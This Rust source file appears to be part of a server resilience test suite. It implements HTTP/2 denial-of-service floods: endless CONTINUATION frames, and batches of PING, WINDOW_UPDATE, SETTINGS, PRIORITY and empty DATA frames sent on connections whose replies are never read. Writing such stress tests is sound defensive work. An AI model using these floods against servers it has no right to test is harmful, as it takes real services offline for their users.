//! Floods of frames, within a call or beside all calls.

use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use super::{Attacker, BATCH, GET, LAST, Wire};
use crate::resilience::floods::frame::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, WINDOW_UPDATE,
    literal, push, request, settings,
};

pub(in super::super) async fn continuation(
    attacker: Arc<Attacker>,
    wire: Wire,
    size: usize,
) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut first = Vec::new();
    push(&mut first, HEADERS, 0, 1, &request(GET));
    write.write_all(&first).await?;
    let mut block = Vec::new();
    while block.len() + 16 < size {
        literal(&mut block, "x-more", "of it");
    }
    let mut more = Vec::new();
    push(&mut more, CONTINUATION, 0, 1, &block);
    while !attacker.is_over() {
        write.write_all(&more).await?;
        attacker.count(1);
    }
    Ok(())
}

/// Frames that ask for something, on a connection that is not read.
pub(in super::super) async fn unread(
    attacker: Arc<Attacker>,
    wire: Wire,
    frame: impl Fn(&mut Vec<u8>, u32),
) -> std::io::Result<()> {
    let Wire { read, mut write } = wire;
    let mut number = 0;
    while !attacker.is_over() {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            frame(&mut batch, number);
            number += 1;
        }
        write.write_all(&batch).await?;
        attacker.count(BATCH);
    }
    drop(read);
    Ok(())
}

pub(in super::super) fn ping(to: &mut Vec<u8>, _: u32) {
    push(to, PING, 0, 0, &[7; 8]);
}

pub(in super::super) fn update(to: &mut Vec<u8>, _: u32) {
    push(to, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
}

pub(in super::super) fn change(to: &mut Vec<u8>, number: u32) {
    settings(to, &[(INITIAL_WINDOW_SIZE, number % 1_000)]);
}

pub(in super::super) fn priority(to: &mut Vec<u8>, number: u32) {
    let stream = (2 * number + 1) % LAST;
    push(to, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
}

pub(in super::super) async fn empty_data(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut batch = Vec::new();
    push(&mut batch, HEADERS, END_HEADERS, 1, &request(GET));
    write.write_all(&batch).await?;
    batch.clear();
    for _ in 0..BATCH {
        push(&mut batch, DATA, 0, 1, &[]);
    }
    while !attacker.is_over() {
        write.write_all(&batch).await?;
        attacker.count(BATCH);
    }
    Ok(())
}
